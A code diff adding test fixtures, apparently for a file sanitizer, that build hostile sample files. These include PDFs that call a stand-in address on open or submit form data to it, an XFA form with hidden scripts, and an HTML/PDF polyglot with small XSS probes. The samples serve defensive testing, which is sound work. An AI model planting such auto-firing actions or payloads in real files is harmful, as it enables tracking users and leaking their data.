@@ -107,3 +107,30 @@ def pdf_embedded_file() -> bytes:
 def pdf_deeply_nested() -> bytes:
     """An object nested 5,000 arrays deep (pypdf's parser recurses once per level)."""
     return pdf(b"/Extra 4 0 R", b"[" * 5000 + b"]" * 5000)
+
+
+def pdf_xfa_form() -> bytes:
+    """An XFA form: its scripts sit in a compressed stream no byte scan reads."""
+    return pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 0 >>\nstream\nendstream")
+
+
+def pdf_open_action_uri() -> bytes:
+    """Opening it calls an outside address."""
+    return pdf(b"/OpenAction << /S /URI /URI (http://example.invalid/track) >>")
+
+
+def pdf_page_submit_form() -> bytes:
+    """A page's additional action that sends the form's data away."""
+    return pdf(page_extra=b"/AA << /O << /S /SubmitForm /F (http://example.invalid/) >> >>")
+
+
+def pdf_with_a_link() -> bytes:
+    """A plain hyperlink on the page (clicked, not automatic): kept."""
+    return pdf(
+        page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://ocop.gov.vn) >> >>]"
+    )
+
+
+def html_then_pdf() -> bytes:
+    """A file that opens as HTML and holds a PDF further on (a polyglot)."""
+    return b"<html><img src=x onerror=alert(1)>\n" + pdf() + b"<script>alert(2)</script></html>"
